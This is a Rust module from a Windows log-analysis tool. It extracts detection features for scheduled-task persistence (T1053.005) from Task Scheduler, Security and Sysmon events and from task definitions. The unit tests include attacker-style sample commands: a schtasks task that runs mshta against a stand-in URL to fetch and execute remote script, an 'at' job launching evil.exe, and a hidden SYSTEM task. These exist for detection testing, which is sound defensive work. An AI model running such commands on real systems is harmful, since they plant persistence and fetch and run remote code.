//! The scheduled-task profile (MITRE ATT&CK T1053.005).
//!
//! - `Microsoft-Windows-TaskScheduler/Operational`, every event id;
//! - Security 4698 (created), 4699 (deleted), 4700 (enabled), 4701 (disabled), 4702 (updated),
//!   with the task definition XML parsed;
//! - process creations of `schtasks.exe` / `at.exe` (Security 4688, Sysmon 1), with the
//!   command line parsed into the task it creates, runs or deletes;
//! - task definitions found on the host ([`CH_TASK_DEFINITION`]: the Tasks folder's XML,
//!   legacy `.job` files, a collector's parsed tasks), with the same features as a 4698's
//!   definition, so that what is on disk compares with what was logged.

use super::features::*;
use super::task_xml;
use super::{Gate, Profile};
use crate::event::{CH_SECURITY, CH_SYSMON, CH_TASK_DEFINITION, CH_TASKSCHEDULER, RawEvent};

pub struct ScheduledTasks;

pub const FIELDS: &[&str] = &[
    "task_name",
    "user",
    "command",
    "arguments",
    "exe",
    "dir_class",
    "lolbin",
    "cmd_flags",
    "principal",
    "logon_type",
    "run_level",
    "hidden",
    "triggers",
    "action",
    "author",
    "working_dir",
    "result_code",
    "parent",
    "schtasks_op",
    "remote",
    "enabled",
    "settings",
    "uri",
];

/// Index of a field in [`FIELDS`], at compile time.
const fn idx(name: &str) -> usize {
    let mut i = 0;
    while i < FIELDS.len() {
        if str_eq(FIELDS[i], name) {
            return i;
        }
        i += 1;
    }
    panic!("unknown field");
}

const fn str_eq(a: &str, b: &str) -> bool {
    let (a, b) = (a.as_bytes(), b.as_bytes());
    if a.len() != b.len() {
        return false;
    }
    let mut i = 0;
    while i < a.len() {
        if a[i] != b[i] {
            return false;
        }
        i += 1;
    }
    true
}

const TASK_NAME: usize = idx("task_name");
const USER: usize = idx("user");
const COMMAND: usize = idx("command");
const ARGUMENTS: usize = idx("arguments");
const EXE: usize = idx("exe");
const DIR_CLASS: usize = idx("dir_class");
const LOLBIN: usize = idx("lolbin");
const FLAGS: usize = idx("cmd_flags");
const PRINCIPAL: usize = idx("principal");
const LOGON_TYPE: usize = idx("logon_type");
const RUN_LEVEL: usize = idx("run_level");
const HIDDEN: usize = idx("hidden");
const TRIGGERS: usize = idx("triggers");
const ACTION: usize = idx("action");
const AUTHOR: usize = idx("author");
const WORKING_DIR: usize = idx("working_dir");
const RESULT_CODE: usize = idx("result_code");
const PARENT: usize = idx("parent");
const SCHTASKS_OP: usize = idx("schtasks_op");
const REMOTE: usize = idx("remote");
const ENABLED: usize = idx("enabled");
const SETTINGS: usize = idx("settings");
const URI: usize = idx("uri");

fn is_task_tool(path: &str) -> bool {
    matches!(
        base_name(path).as_str(),
        "schtasks.exe" | "at.exe" | "schtasks" | "at"
    )
}

fn mentions_task_tool(command_line: &str) -> bool {
    let l = command_line.to_ascii_lowercase();
    l.contains("schtasks") || l.contains("at.exe")
}

/// What a process creation must name for [`ScheduledTasks::wants`] to keep it.
fn names_task_tool(value: &str) -> bool {
    is_task_tool(value) || mentions_task_tool(value)
}

/// Process creations are kept only when they run or mention a task tool: most of a Security
/// log with process auditing on, never rendered.
static GATES: [Gate; 2] = [
    Gate {
        channel: CH_SECURITY,
        ids: &[4688],
        test: names_task_tool,
    },
    Gate {
        channel: CH_SYSMON,
        ids: &[1],
        test: names_task_tool,
    },
];

impl Profile for ScheduledTasks {
    fn name(&self) -> &'static str {
        "scheduled-tasks"
    }

    fn fields(&self) -> &'static [&'static str] {
        FIELDS
    }

    fn inputs(&self) -> &'static [&'static str] {
        &[
            "TaskName",
            "UserName",
            "UserContext",
            "UserId",
            "Path",
            "ActionName",
            "ResultCode",
            "SubjectUserName",
            "SubjectDomainName",
            "TaskContentNew",
            "TaskContent",
            "CommandLine",
            "User",
            "ParentProcessName",
            "ParentImage",
            "NewProcessName",
            "Image",
            // A definition given as fields (a `.job`, a collector's parsed task).
            "Command",
            "Arguments",
            "WorkingDirectory",
            "ComClassId",
            "Actions",
            "GroupId",
            "LogonType",
            "RunLevel",
            "Hidden",
            "Enabled",
            "Triggers",
            "Repeats",
            "Author",
            "Uri",
            "Settings",
        ]
    }

    fn sources(&self) -> &'static [(&'static str, &'static [u32])] {
        &[
            (CH_TASKSCHEDULER, &[]),
            (CH_SECURITY, &[4688, 4698, 4699, 4700, 4701, 4702]),
            (CH_SYSMON, &[1]),
            (CH_TASK_DEFINITION, &[]),
        ]
    }

    fn gates(&self) -> &'static [Gate] {
        &GATES
    }

    fn wants(&self, ev: &RawEvent) -> bool {
        match ev.canonical_channel() {
            CH_TASKSCHEDULER | CH_TASK_DEFINITION => true,
            CH_SECURITY => match ev.event_id {
                4698..=4702 => true,
                4688 => {
                    ev.get("NewProcessName").is_some_and(is_task_tool)
                        || ev.get("CommandLine").is_some_and(mentions_task_tool)
                }
                _ => false,
            },
            CH_SYSMON => {
                ev.event_id == 1
                    && (ev.get("Image").is_some_and(is_task_tool)
                        || ev.get("CommandLine").is_some_and(mentions_task_tool))
            }
            _ => false,
        }
    }

    fn extract(&self, ev: &RawEvent) -> Option<Vec<String>> {
        if !self.wants(ev) {
            return None;
        }
        let mut f = vec![String::new(); FIELDS.len()];
        match (ev.canonical_channel(), ev.event_id) {
            (CH_TASKSCHEDULER, _) => operational(ev, &mut f),
            (CH_SECURITY, 4698..=4702) => security_task(ev, &mut f),
            (CH_TASK_DEFINITION, _) => definition(ev, &mut f),
            _ => process_creation(ev, &mut f)?,
        }
        Some(f)
    }

    fn display(&self, ev: &RawEvent) -> [String; 2] {
        let join = |c: &str, a: &str| {
            let (c, a) = (c.trim(), a.trim());
            if a.is_empty() {
                c.to_string()
            } else {
                format!("{c} {a}")
            }
        };
        match (ev.canonical_channel(), ev.event_id) {
            (CH_TASKSCHEDULER, _) => [
                ev.first(&["TaskName"]).unwrap_or("").to_string(),
                ev.first(&["Path", "ActionName"]).unwrap_or("").to_string(),
            ],
            (CH_SECURITY, 4698..=4702) | (CH_TASK_DEFINITION, _) => {
                let name = ev.first(&["TaskName"]).unwrap_or("").to_string();
                let command = definition_of(ev)
                    .and_then(|x| {
                        x.exec
                            .first()
                            .map(|a| join(&a.command, &a.arguments))
                            .or_else(|| x.com_class_ids.first().map(|c| format!("com:{c}")))
                    })
                    .unwrap_or_default();
                [name, command]
            }
            // A process creation's command as it was read (`schtasks.exe /query /fo LIST /v`,
            // not the normalised program and sorted arguments the model reads).
            _ => match ev.first(&["CommandLine"]) {
                Some(line) => [
                    parse_schtasks(line).map_or_else(String::new, |c| c.task_name),
                    line.trim().to_string(),
                ],
                None => [String::new(), String::new()],
            },
        }
    }
}

/// Fill the command-derived features from an executable path and its arguments.
fn set_command(f: &mut [String], exe_path: &str, arguments: &str) {
    let command = normalize_path(exe_path);
    let exe = if command.starts_with("com:") {
        String::new()
    } else {
        base_name(&command)
    };
    f[DIR_CLASS] = dir_class(&command).to_string();
    f[LOLBIN] = if !exe.is_empty() && is_lolbin(&exe) {
        "yes".into()
    } else {
        String::new()
    };
    let flags = suspicious_flags(&exe, &format!("{exe_path} {arguments}"));
    push_flags(&mut f[FLAGS], &flags);
    f[ARGUMENTS] = mask_volatile(&normalize_path(arguments));
    f[EXE] = exe;
    f[COMMAND] = command;
}

fn push_flags(dst: &mut String, add: &str) {
    if add.is_empty() {
        return;
    }
    let mut all: Vec<&str> = dst
        .split(',')
        .chain(add.split(','))
        .filter(|s| !s.is_empty())
        .collect();
    all.sort_unstable();
    all.dedup();
    *dst = all.join(",");
}

fn operational(ev: &RawEvent, f: &mut [String]) {
    if let Some(t) = ev.first(&["TaskName"]) {
        f[TASK_NAME] = normalize_task_name(t);
    }
    if let Some(u) = ev.first(&["UserName", "UserContext", "UserId"]) {
        f[USER] = normalize_user("", u);
    }
    // 129 names the launched process in Path; 200/201 the action in ActionName (a path for
    // Exec actions, a handler's display name for COM actions).
    if let Some(p) = ev.first(&["Path", "ActionName"]) {
        set_command(f, p, "");
    }
    if let Some(rc) = ev.first(&["ResultCode"]) {
        f[RESULT_CODE] = rc.to_ascii_lowercase();
    }
}

fn security_task(ev: &RawEvent, f: &mut [String]) {
    if let Some(t) = ev.first(&["TaskName"]) {
        f[TASK_NAME] = normalize_task_name(t);
    }
    f[USER] = normalize_user(
        ev.first(&["SubjectDomainName"]).unwrap_or(""),
        ev.first(&["SubjectUserName"]).unwrap_or(""),
    );
    if let Some(xml) = definition_of(ev) {
        from_definition(&xml, f);
    }
}

/// A definition found on the host: no one is known to have registered it (no `user`), the
/// rest as a 4698's.
fn definition(ev: &RawEvent, f: &mut [String]) {
    if let Some(t) = ev.first(&["TaskName"]) {
        f[TASK_NAME] = normalize_task_name(t);
    }
    if let Some(xml) = definition_of(ev) {
        from_definition(&xml, f);
    }
    // What the registry's TaskCache and the Tasks folder say of each other
    // ([`crate::ingest::registry`]): a Tree key without its security descriptor or with
    // index 0, a task the registry holds with no file, a file it does not register, hashes
    // or actions that differ.
    for (key, value, flag) in REGISTRY_STATES {
        if ev.get(key).is_some_and(|v| v.eq_ignore_ascii_case(value)) {
            push_flags(&mut f[FLAGS], flag);
        }
    }
}

/// Facts of a definition's registry comparison that become `cmd_flags`: (raw field, value,
/// flag). Each flag stands for one of [`crate::timeline::Flag`]'s registry flags.
pub const REGISTRY_STATES: [(&str, &str, &str); 8] = [
    ("TreeSD", "absent", "no-sd"),
    ("TreeIndex", "0", "index-0"),
    ("FileState", "no file", "unfiled"),
    ("FileState", "differs", "hash-differs"),
    ("ActionsVsFile", "differ", "actions-differ"),
    ("Registry", "not registered", "unregistered"),
    ("RegistryHash", "differs", "hash-differs"),
    ("RegistryActions", "differ", "actions-differ"),
];

/// The definition a record carries: its task XML (`TaskContentNew`, `TaskContent`) parsed,
/// or, for a definition given as fields (a `.job` file, a collector's parsed task), those
/// fields in the same shape.
pub fn definition_of(ev: &RawEvent) -> Option<task_xml::TaskXml> {
    if let Some(content) = ev.first(&["TaskContentNew", "TaskContent"]) {
        return task_xml::parse(content);
    }
    if ev.canonical_channel() != CH_TASK_DEFINITION {
        return None;
    }
    let get = |k: &str| ev.get(k).unwrap_or("").trim().to_string();
    let list = |k: &str| -> Vec<String> {
        get(k)
            .split(',')
            .map(str::trim)
            .filter(|s| !s.is_empty())
            .take(task_xml::MAX_ITEMS)
            .map(str::to_string)
            .collect()
    };
    let bool_of = |k: &str| match get(k).to_ascii_lowercase().as_str() {
        "true" | "1" => Some(true),
        "false" | "0" => Some(false),
        _ => None,
    };
    let mut x = task_xml::TaskXml {
        author: get("Author"),
        uri: get("Uri"),
        user_id: get("UserId"),
        group_id: get("GroupId"),
        logon_type: get("LogonType"),
        run_level: get("RunLevel"),
        hidden: bool_of("Hidden"),
        enabled: bool_of("Enabled"),
        triggers: list("Triggers"),
        repeats: bool_of("Repeats").unwrap_or(false),
        date: get("Date"),
        com_class_ids: list("ComClassId"),
        settings: get("Settings")
            .lines()
            .filter_map(|l| l.split_once('='))
            .take(task_xml::MAX_ITEMS)
            .map(|(k, v)| (k.trim().to_string(), v.trim().to_string()))
            .collect(),
        ..Default::default()
    };
    let command = get("Command");
    if !command.is_empty() {
        x.exec.push(task_xml::ExecAction {
            command,
            arguments: get("Arguments"),
            working_directory: get("WorkingDirectory"),
        });
    }
    x.action_kinds = list("Actions")
        .iter()
        .filter_map(|a| match a.to_ascii_lowercase().as_str() {
            "exec" => Some("exec"),
            "com" => Some("com"),
            "email" => Some("email"),
            "message" => Some("message"),
            _ => None,
        })
        .collect();
    if x.action_kinds.is_empty() {
        if !x.exec.is_empty() {
            x.action_kinds.push("exec");
        } else if !x.com_class_ids.is_empty() {
            x.action_kinds.push("com");
        }
    }
    Some(x)
}

/// The features a task definition gives (a 4698's, a file's): what it runs, as whom, when,
/// and how.
fn from_definition(xml: &task_xml::TaskXml, f: &mut [String]) {
    if let Some(a) = xml.exec.first() {
        set_command(f, &a.command, &a.arguments);
        f[WORKING_DIR] = normalize_path(&a.working_directory);
    } else if let Some(clsid) = xml.com_class_ids.first() {
        f[COMMAND] = format!("com:{}", clsid.trim().to_lowercase());
        f[DIR_CLASS] = "com".into();
    }
    if xml.malformed {
        push_flags(&mut f[FLAGS], "malformed-xml");
    }
    if xml.action_kinds.len() > 1 {
        push_flags(&mut f[FLAGS], "multi-action");
    }
    f[ACTION] = xml.action_kinds.join(",");
    f[PRINCIPAL] = if !xml.user_id.is_empty() {
        normalize_user("", &xml.user_id)
    } else {
        normalize_user("", &xml.group_id)
    };
    f[LOGON_TYPE] = xml.logon_type.to_ascii_lowercase();
    f[RUN_LEVEL] = xml.run_level.to_ascii_lowercase();
    f[HIDDEN] = xml.hidden.map(|h| h.to_string()).unwrap_or_default();
    f[ENABLED] = xml.enabled.map(|h| h.to_string()).unwrap_or_default();
    let mut triggers: Vec<String> = xml
        .triggers
        .iter()
        .map(|t| t.to_ascii_lowercase())
        .collect();
    triggers.sort();
    triggers.dedup();
    if xml.repeats {
        triggers.push("repeat".into());
    }
    f[TRIGGERS] = triggers.join(",");
    let author = xml.author.trim();
    f[AUTHOR] = if author.contains('\\') && !author.contains('%') && !author.contains("$(") {
        normalize_user("", author)
    } else {
        mask_volatile(&author.to_lowercase())
    };
    f[SETTINGS] = settings_tokens(&xml.settings);
    // The URI a definition gives itself, where it is not the task's own name: a renamed or
    // copied file, or a definition written by hand.
    let uri = xml.uri.trim();
    if !uri.is_empty() && !f[TASK_NAME].is_empty() {
        let uri = normalize_task_name(uri);
        if !uri.eq_ignore_ascii_case(&f[TASK_NAME]) {
            f[URI] = uri;
        }
    }
}

/// The settings worth hunting, as tokens (sorted, comma-separated): what departs from the
/// schema's defaults in ways that keep a task running, hide it, or make it go away.
pub fn settings_tokens(settings: &[(String, String)]) -> String {
    let mut out: Vec<String> = Vec::new();
    for (name, value) in settings {
        let v = value.trim();
        let yes = v.eq_ignore_ascii_case("true") || v == "1";
        let no = v.eq_ignore_ascii_case("false") || v == "0";
        let token = match name.as_str() {
            "AllowStartOnDemand" if no => "no-demand".to_string(),
            "ExecutionTimeLimit" if v == "PT0S" || v == "P0D" || v == "INFINITE" => {
                "no-time-limit".to_string()
            }
            "DisallowStartIfOnBatteries" if no => "on-batteries".to_string(),
            "StopIfGoingOnBatteries" if no => "keeps-on-batteries".to_string(),
            "WakeToRun" if yes => "wake".to_string(),
            "RunOnlyIfIdle" if yes => "idle-only".to_string(),
            "StartWhenAvailable" if yes => "when-available".to_string(),
            "RunOnlyIfNetworkAvailable" if yes => "network-only".to_string(),
            "DeleteExpiredTaskAfter" if !v.is_empty() => "self-deleting".to_string(),
            "AllowHardTerminate" if no => "no-hard-terminate".to_string(),
            "Volatile" if yes => "volatile".to_string(),
            "DisallowStartOnRemoteAppSession" if yes => "no-remote-app".to_string(),
            "MultipleInstancesPolicy" if !v.eq_ignore_ascii_case("IgnoreNew") && !v.is_empty() => {
                format!("instances-{}", v.to_ascii_lowercase())
            }
            "Priority" if v != "7" && v.len() <= 2 && v.bytes().all(|b| b.is_ascii_digit()) => {
                format!("priority-{v}")
            }
            _ => continue,
        };
        out.push(token);
    }
    out.sort();
    out.dedup();
    out.join(",")
}

fn process_creation(ev: &RawEvent, f: &mut [String]) -> Option<()> {
    let cl = ev.first(&["CommandLine"])?;
    let call = parse_schtasks(cl)?;
    f[TASK_NAME] = normalize_task_name(&call.task_name);
    f[USER] = if ev.event_id == 4688 {
        normalize_user(
            ev.first(&["SubjectDomainName"]).unwrap_or(""),
            ev.first(&["SubjectUserName"]).unwrap_or(""),
        )
    } else {
        normalize_user("", ev.first(&["User"]).unwrap_or(""))
    };
    if !call.task_run.is_empty() {
        let (exe, args) = split_exe_args(&call.task_run);
        set_command(f, &exe, &args);
    } else {
        // No command to run (a query, a run, a deletion): how it was asked is what there is
        // to compare, `/query /xml` (every definition dumped) against the usual `/query`.
        f[ARGUMENTS] = call
            .switches
            .iter()
            .map(|s| format!("/{s}"))
            .collect::<Vec<_>>()
            .join(" ");
    }
    // `/xml FILE` creates from a definition; `/query /xml` dumps definitions.
    if !call.xml.is_empty() && call.op == "create" {
        push_flags(&mut f[FLAGS], "xml-import");
    }
    if call.op == "query" && call.switches.iter().any(|s| s == "xml") {
        push_flags(&mut f[FLAGS], "xml-export");
    }
    f[PRINCIPAL] = normalize_user("", &call.run_as);
    f[RUN_LEVEL] = call.run_level;
    f[TRIGGERS] = call.schedule;
    f[PARENT] = ev
        .first(&["ParentProcessName", "ParentImage"])
        .map(base_name)
        .unwrap_or_default();
    f[SCHTASKS_OP] = call.op;
    f[REMOTE] = if call.remote_host.is_empty() {
        String::new()
    } else {
        "yes".into()
    };
    Some(())
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::sync::Arc;

    fn ev(channel: &str, id: u32, data: &[(&str, &str)]) -> RawEvent {
        RawEvent {
            source: Arc::from("t"),
            channel: channel.into(),
            event_id: id,
            provider: String::new(),
            computer: "PC".into(),
            time: None,
            record_id: None,
            data: data
                .iter()
                .map(|(k, v)| (k.to_string(), v.to_string()))
                .collect(),
        }
    }

    fn get<'a>(f: &'a [String], name: &str) -> &'a str {
        &f[FIELDS.iter().position(|n| *n == name).unwrap()]
    }

    #[test]
    fn security_4698() {
        let xml = "<Task><Settings><Hidden>true</Hidden></Settings><Actions><Exec><Command>C:\\Users\\Public\\svc.exe</Command><Arguments>-w hidden</Arguments></Exec></Actions><Principals><Principal><UserId>S-1-5-18</UserId></Principal></Principals></Task>";
        let e = ev(
            "security",
            4698,
            &[
                ("SubjectUserName", "bob"),
                ("SubjectDomainName", "CORP"),
                ("TaskName", "\\Upd"),
                ("TaskContent", xml),
            ],
        );
        let f = ScheduledTasks.extract(&e).unwrap();
        assert_eq!(get(&f, "command"), "c:\\users\\public\\svc.exe");
        assert_eq!(get(&f, "dir_class"), "users-public");
        assert_eq!(get(&f, "user"), "corp\\bob");
        assert_eq!(get(&f, "principal"), "nt authority\\system");
        assert_eq!(get(&f, "hidden"), "true");
        assert_eq!(get(&f, "action"), "exec");
    }

    #[test]
    fn process_creation_of_schtasks() {
        let e = ev(
            "Microsoft-Windows-Sysmon/Operational",
            1,
            &[
                ("Image", "C:\\Windows\\System32\\schtasks.exe"),
                (
                    "CommandLine",
                    "\"C:\\Windows\\System32\\schtasks.exe\" /Create /sc MINUTE /MO 60 /TN MSOFFICE_ /TR \"mshta.exe https://x.example/Injection.txt\" /F",
                ),
                ("User", "PC\\alice"),
                ("ParentImage", "C:\\Windows\\System32\\cmd.exe"),
            ],
        );
        let f = ScheduledTasks.extract(&e).unwrap();
        assert_eq!(get(&f, "task_name"), "\\MSOFFICE_");
        assert_eq!(get(&f, "exe"), "mshta.exe");
        assert_eq!(get(&f, "lolbin"), "yes");
        assert!(get(&f, "cmd_flags").contains("url"));
        assert_eq!(get(&f, "schtasks_op"), "create");
        assert_eq!(get(&f, "parent"), "cmd.exe");
    }

    #[test]
    fn unrelated_events_are_dropped() {
        assert!(!ScheduledTasks.wants(&ev("Security", 4624, &[])));
        assert!(!ScheduledTasks.wants(&ev(
            "Security",
            4688,
            &[
                ("NewProcessName", "C:\\x\\notepad.exe"),
                ("CommandLine", "notepad")
            ]
        )));
        assert!(ScheduledTasks.wants(&ev("Microsoft-Windows-TaskScheduler/Operational", 322, &[])));
    }

    /// Every record a profile wants passes its prefilter (the prefilter decides before a
    /// record is rendered, so it must never refuse one `wants` would keep).
    #[test]
    fn every_wanted_record_passes_the_prefilter() {
        let task_tool = [
            ("NewProcessName", "C:\\Windows\\System32\\schtasks.exe"),
            ("Image", "C:\\Windows\\System32\\schtasks.exe"),
            ("CommandLine", "schtasks /query"),
        ];
        for profile in crate::profile::PROFILES {
            let profile = crate::profile::by_name(profile).unwrap();
            let pre = crate::ingest::Prefilter::new(profile.sources());
            for channel in [
                "Security",
                "security",
                "System",
                "Microsoft-Windows-TaskScheduler/Operational",
                "Microsoft-Windows-Sysmon/Operational",
                "Application",
                "",
            ] {
                for id in [
                    1, 100, 106, 129, 200, 4624, 4688, 4697, 4698, 4702, 7045, 7036,
                ] {
                    if profile.wants(&ev(channel, id, &task_tool)) {
                        assert!(
                            pre.wants(channel, id),
                            "{} wants {channel}/{id}",
                            profile.name()
                        );
                    }
                    // Under a gate, a record is wanted only when one of its values passes.
                    let ch = crate::event::canonical_channel(channel);
                    let Some(test) = pre.gate(ch, id) else {
                        continue;
                    };
                    for &(k, v) in task_tool.iter().chain(&[
                        ("NewProcessName", "C:\\Windows\\System32\\AT.EXE"),
                        ("CommandLine", "cmd /c at 12:00 evil.exe"),
                        ("NewProcessName", "C:\\Windows\\System32\\cmd.exe"),
                        ("CommandLine", "cmd /c whoami"),
                    ]) {
                        if profile.wants(&ev(channel, id, &[(k, v)])) {
                            assert!(test(v), "{} wants {k}={v} its gate refuses", profile.name());
                        }
                    }
                    assert!(!test("C:\\Windows\\System32\\cmd.exe"));
                }
            }
        }
    }
}
